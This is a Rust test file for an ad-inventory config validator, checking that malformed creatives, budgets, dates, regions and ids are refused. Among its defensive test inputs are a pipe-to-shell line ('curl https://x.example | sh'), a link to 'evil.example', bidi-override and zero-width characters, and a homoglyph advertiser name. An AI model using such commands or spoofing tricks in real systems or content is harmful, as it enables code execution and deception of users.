use crate::catalog::files;

/// The example with one text changed in one of its files: what is said about it.
fn broken(file: &str, from: &str, to: &str) -> Vec<String> {
    let mut changed = false;
    let texts: Vec<(String, String)> = files::EXAMPLE
        .iter()
        .map(|(name, text)| {
            let text =
                if name.ends_with(file) { text.replacen(from, to, 1) } else { (*text).into() };
            changed |= name.ends_with(file) && text != files_text(name);
            ((*name).to_owned(), text)
        })
        .collect();
    assert!(changed, "`{from}` stands in {file}");
    match files::parse(&texts) {
        Ok(_) => Vec::new(),
        Err(problems) => problems.iter().map(ToString::to_string).collect(),
    }
}

fn files_text(name: &str) -> &'static str {
    files::EXAMPLE.iter().find(|(one, _)| *one == name).unwrap().1
}

fn refused(file: &str, cases: &[(&str, &str, &str)]) {
    for (from, to, expected) in cases {
        let said = broken(file, from, to);
        let place = format!("config/inventory/{file}:");
        assert!(
            said.iter().any(|one| one.starts_with(&place) && one.contains(expected)),
            "{to}: {said:#?}"
        );
    }
}

#[test]
fn a_creative_says_only_what_it_may() {
    refused(
        "zahid-host.toml",
        &[
            (
                "\"Run your AI",
                "\"\\u202ERun your AI",
                "creatives[0].headline: has a character that turns",
            ),
            (
                "\"Pricing\"",
                "\"Pri\\u200Bcing\"",
                "ctas[1].text: has a character that does not show",
            ),
            ("git push zahid main", "curl https://x.example | sh", "command.text: pipes into"),
            (
                "https://zahid.host/pricing",
                "https://evil.example/",
                "ctas[1].url: leads to `evil.example`",
            ),
            ("https://zahid.host/pricing", "http://zahid.host/", "ctas[1].url: is not https"),
            ("from={publisher}", "from={reader}", "ctas[0].url: `{reader}` is not a macro"),
            ("id = \"pricing\"", "id = \"primary\"", "ctas[1].id: `primary` is given twice"),
            (
                "fallback = \"reading about agents? ship yours in a single git push.\", ",
                "",
                "kicker.fallback: is required",
            ),
            ("echo = [\"ai-agents\"", "echo = [\"ai-agentz\"", "did you mean `ai-agents`?"),
            (
                "as_of = \"2026-10-01\"",
                "as_of = \"2037-10-01\"",
                "proofs[0].valid_until: is not after",
            ),
            (
                "source = \"zahid.host, own count of running projects\"\n",
                "",
                "missing field `source`",
            ),
            (
                "valid_until = \"2036-12-31T23:59:59Z\"\nregions",
                "regions",
                "missing field `valid_until`",
            ),
            (
                "[\"eea\", \"CH\"]",
                "[\"eeaa\", \"CH\"]",
                "proofs[0].regions.any[0]: there is no region `eeaa`",
            ),
            (
                "audience = \"business\"",
                "audience = \"consumer\", tax_included = false",
                "duplicate key",
            ),
            (
                "flight = \"zahid-ai-europe\"",
                "flight = \"zahid-ai-europa\"",
                "did you mean `zahid-ai-europe`?",
            ),
            (
                "headline = \"Run",
                "headline = \"Run far far far far far far far far far far far far far far far far far far",
                "headline: length",
            ),
        ],
    );
}

#[test]
fn money_and_dates_are_exact_and_possible() {
    refused(
        "zahid-host.toml",
        &[
            (
                "price_micros = 8_000_000",
                "price_micros = 8_000_001",
                "price_micros: a price per thousand is a multiple",
            ),
            ("price_micros = 8_000_000", "price_micros = -1000", "is not an amount"),
            ("price_micros = 8_000_000", "price_micros = 9007199254740992", "is not an amount"),
            (
                "price_micros = 8_000_000",
                "price_micros = 8_000_000.0",
                "invalid type: floating point",
            ),
            (
                "price_micros = 8_000_000",
                "price_micros = 8_000_000\nweight = nan",
                "weight: is not a finite number",
            ),
            (
                "price_micros = 8_000_000",
                "price_micros = 8_000_000\nweight = -1.0",
                "weight: lower than",
            ),
            (
                "daily_micros = 200_000_000",
                "daily_micros = 5_000_000_001",
                "is more than the whole budget",
            ),
            ("daily_micros = 200_000_000", "daily_micros = 0", "budget.daily_micros: is 0"),
            ("pacing = \"asap\"", "goal_impressions = 10", "goal_impressions: needs `ends`"),
            (
                "pacing = \"asap\"",
                "starts = \"2026-01-02T00:00:00\"\nends = \"2026-01-02T00:00:00\"",
                "ends: is not after",
            ),
            ("currency = \"EUR\"", "currency = \"EURO\"", "is not a currency"),
        ],
    );
}

#[test]
fn a_campaign_is_not_political_and_says_its_business() {
    refused(
        "zahid-host.toml",
        &[
            (
                "political = false",
                "political = true",
                "campaigns[0].political: political messages are refused",
            ),
            ("political = false\n", "", "missing field `political`"),
            ("sectors = [\"software\"]", "sectors = [\"sofware\"]", "did you mean `software`?"),
            ("sectors = [\"software\"]", "sectors = []", "sectors: length"),
            ("utm_source", "source", "utm: `source` is not utm_"),
            ("paid_by = \"Zahid Hosting GmbH\"", "paid_by = \" \"", "paid_by: is empty"),
        ],
    );
}

#[test]
fn regions_and_ids_exist_and_are_given_once() {
    refused(
        "zahid-host.toml",
        &[
            ("any = [\"eu\", \"CH\"]", "any = [\"eu\", \"C1\"]", "is not a region"),
            ("any = [\"eu\", \"CH\"]", "any = [\"eau\", \"CH\"]", "did you mean"),
            (
                "any = [\"eu\", \"CH\"]",
                "any = [\"CH\"], none = [\"europe\"]",
                "targeting.regions: leaves no country",
            ),
            (
                "\n[[flights]]",
                "\n[[advertisers]]\nid = \"zahid-host\"\nname = \"Other\"\ndomains = [\"o.example\"]\ncurrency = \"EUR\"\n\n[[flights]]",
                "advertisers[1].id: `zahid-host` is given twice",
            ),
            (
                "\n[[flights]]",
                "\n[[advertisers]]\nid = \"other\"\nname = \"zаhid.host\"\ndomains = [\"o.example\"]\ncurrency = \"EUR\"\n\n[[flights]]",
                "reads like the name of",
            ),
            ("id = \"zahid-launch\"", "id = \"Zahid Launch\"", "is not an id"),
        ],
    );
    refused(
        "publishers.toml",
        &[
            ("id = \"dach\"", "id = \"eu\"", "is a built-in group"),
            ("id = \"dach\"", "id = \"de\"", "does not name a group"),
            ("members = [\"DE\", \"AT\", \"CH\"]", "members = []", "holds nobody"),
            ("regions = [\"MT\"]", "regions = [\"malta\"]", "there is no region `malta`"),
            (
                "page_urls = \"path\"",
                "page_urls = \"path\"\nstopped_paths = [\"politics\"]",
                "stopped_paths[0]: `politics` is not a URL prefix",
            ),
            (
                "page_urls = \"path\"",
                "page_urls = \"path\"\norigins = [\"https://news.example/\"]",
                "origins[0]",
            ),
            ("default_country = \"BE\"", "default_country = \"XX\"", "is not a region"),
        ],
    );
}

#[test]
fn the_references_of_a_large_inventory_are_looked_up_not_searched() {
    // A hundred times the flights may take a hundred times as long, not ten thousand times; the
    // number of suggestions is bounded, too.
    let mut inventory = crate::catalog::synth::inventory(2_000, 1);
    inventory.creatives.iter_mut().for_each(|one| one.flight = "flight-1x".parse().unwrap());
    let findings = super::inventory(&inventory);
    assert_eq!(findings.len(), inventory.creatives.len());
    let helped = findings.iter().filter(|finding| finding.help.is_some()).count();
    assert_eq!(helped, super::SUGGESTIONS);
}
